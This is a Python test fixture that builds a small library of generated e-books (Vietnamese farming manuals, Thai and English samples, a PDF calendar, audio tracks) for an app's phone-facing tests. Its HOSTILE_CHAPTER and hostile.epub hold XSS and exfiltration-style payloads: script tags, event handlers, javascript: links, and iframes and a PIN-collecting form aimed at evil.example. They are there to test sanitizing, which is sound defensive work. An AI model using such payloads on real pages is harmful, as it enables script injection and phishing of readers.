"""A small library of generated books for the phone-facing tests: readers, player, pages, browser.

Everything is made with :mod:`tests.media` and loaded through
``content.ingest.import_paths``, the way a librarian's USB stick would be.
"""

from __future__ import annotations

from pathlib import Path

from content.ingest.run import import_paths
from tests.media import make_epub, make_jpeg, make_mp3, make_pdf, make_png

__all__ = ["HOSTILE_CHAPTER", "build_phone_library", "long_chapter"]

# Everything a hostile EPUB chapter can try; none of it may reach a phone.
HOSTILE_CHAPTER = """
<script>window.__pwned = 1; alert('xss')</script>
<p id="start" onclick="window.__pwned = 2">Đoạn văn an toàn.</p>
<img src="images/pic.png" onerror="window.__pwned = 3" alt="ảnh"/>
<img src="http://evil.example/track.png" alt="remote"/>
<img src="data:image/png;base64,iVBORw0KGgo=" alt="data"/>
<a href="javascript:window.__pwned = 4">liên kết xấu</a>
<a href="JaVaScRiPt:alert(1)">hoa thường</a>
<a href="vbscript:msgbox(1)">vb</a>
<a href="https://evil.example/phish">trang ngoài</a>
<a href="//evil.example/x">không giao thức</a>
<iframe src="https://evil.example/frame">khung</iframe>
<object data="https://evil.example/x.swf">đối tượng</object>
<embed src="https://evil.example/x.swf"/>
<form action="https://evil.example/steal"><input name="pin"/><button>Gửi</button></form>
<style>body { background: url(https://evil.example/bg.png) } p { color: red }</style>
<link rel="stylesheet" href="https://evil.example/x.css"/>
<svg><script>window.__pwned = 5</script><image href="https://evil.example/svg.png"/></svg>
<p style="background:url(https://evil.example/inline.png)">kiểu nội tuyến</p>
<a href="#start">về đầu</a>
<p>Hết chương.</p>
"""


def long_chapter(paragraphs: int = 400) -> str:
    """A chapter body of many paragraphs (a whole book in one file), with an anchor near its end."""
    text = "Người nông dân ra đồng từ sáng sớm, chăm sóc từng khóm lúa non trên thửa ruộng bậc thang. "
    body = [f"<p>{i + 1}. {text * 3}</p>" for i in range(paragraphs)]
    body.insert(paragraphs - 5, '<p id="gan-cuoi">Đoạn gần cuối.</p>')
    return '<div class="wrap"><a href="#gan-cuoi">Tới đoạn gần cuối</a>' + "".join(body) + "</div>"


def _epubs(folder: Path) -> None:
    """The EPUBs: a Vietnamese farming book with images and links, Thai, English, hostile, long."""
    make_epub(
        folder / "lua.epub", title="Kỹ thuật trồng lúa nước", authors=["Nguyễn Văn An"], language="vi",
        subjects=["Nông nghiệp"], cover=make_jpeg(colour=(40, 120, 60)),
        description="Cách làm đất, gieo mạ và chăm sóc lúa.\nDành cho bà con nông dân.",
        publisher="NXB Nông nghiệp", date="2021-03-15",
        chapters=[
            ("Chương 1: Làm đất", "<p>Cày bừa kỹ trước khi gieo. <a href='ch2.xhtml#ma'>Xem gieo mạ</a>.</p>"),
            ("Chương 2: Gieo mạ", "<h2 id='ma'>Gieo mạ</h2><p>Ngâm ủ hạt giống hai ngày.</p>"
                                  "<p><img src='images/ruong.png' alt='Ruộng lúa' width='600' height='300'/></p>"),
            ("Chương 3: Chăm sóc", "<p>Bón phân và giữ nước cho ruộng. <a href='ch1.xhtml'>Về chương 1</a></p>"),
        ],
        extra_files={"OEBPS/images/ruong.png": make_png(600, 300, (60, 160, 80))},
        manifest_extra=['<item id="ruong" href="images/ruong.png" media-type="image/png"/>'],
    )
    for number in range(1, 5):
        make_epub(folder / f"nong-{number}.epub", title=f"Sổ tay nhà nông tập {number}", language="vi",
                  subjects=["Nông nghiệp"], identifier=f"urn:uuid:nong-{number}",
                  chapters=[("Mở đầu", f"<p>Tập {number}: cây trồng và vật nuôi.</p>"), ("Phần hai", "<p>Hai.</p>")])
    make_epub(folder / "thai.epub", title="ห้องสมุดชุมชน", authors=["สมชาย ใจดี"], language="th",
              subjects=["วัฒนธรรม"], identifier="urn:uuid:thai-1",
              chapters=[("บทที่ 1", "<p>ห้องสมุดเป็นที่อ่านหนังสือของทุกคน</p>"), ("บทที่ 2", "<p>เด็กๆ ชอบนิทาน</p>")])
    make_epub(folder / "health.epub", title="Clean water at home", authors=["A. Writer"], language="en",
              subjects=["Health"], identifier="urn:uuid:health-1",
              chapters=[("Boiling", "<p>Boil water for one minute.</p>"), ("Storing", "<p>Keep it covered.</p>")])
    make_epub(folder / "hostile.epub", title="Sách độc hại", language="vi", subjects=["Khác"],
              identifier="urn:uuid:hostile-1",
              chapters=[("Bẫy", HOSTILE_CHAPTER), ("Sau bẫy", "<p>Chương sau.</p>")],
              extra_files={"OEBPS/images/pic.png": make_png(40, 40), "OEBPS/evil.js": "window.__pwned = 9",
                           "OEBPS/style.css": "body{background:url(https://evil.example/css.png)}"})
    make_epub(folder / "long.epub", title="Truyện dài một tệp", language="vi", subjects=["Văn hóa"],
              identifier="urn:uuid:long-1", chapters=[("Toàn bộ", long_chapter()), ("Phụ lục", "<p>Hết.</p>")])


def build_phone_library(library, folder: Path) -> dict[str, str]:
    """Generate the books under ``folder``, import them into ``library``; return ids by short name."""
    folder.mkdir(parents=True, exist_ok=True)
    _epubs(folder)
    make_pdf(folder / "lich.pdf", ["Lịch thời vụ: tháng một.", "Tháng hai: gieo mạ.", "Tháng ba: cấy lúa."],
             title="Lịch thời vụ", author="Trạm khuyến nông")
    album = folder / "sach-noi"
    album.mkdir(exist_ok=True)
    for track in (1, 2):
        make_mp3(album / f"{track:02d}.mp3", 120.0, title=f"Phần {track}", album="Truyện cổ tích",
                 artist="Người đọc", track=track, cover=make_jpeg(colour=(120, 40, 140)))
    report = import_paths(library, [folder])
    assert not report.rejected, report.rejected
    ids = {}
    for entry in report.imported:
        ids.setdefault(Path(entry["path"]).stem if entry["format"] != "audio" else "audio", entry["id"])
    return ids
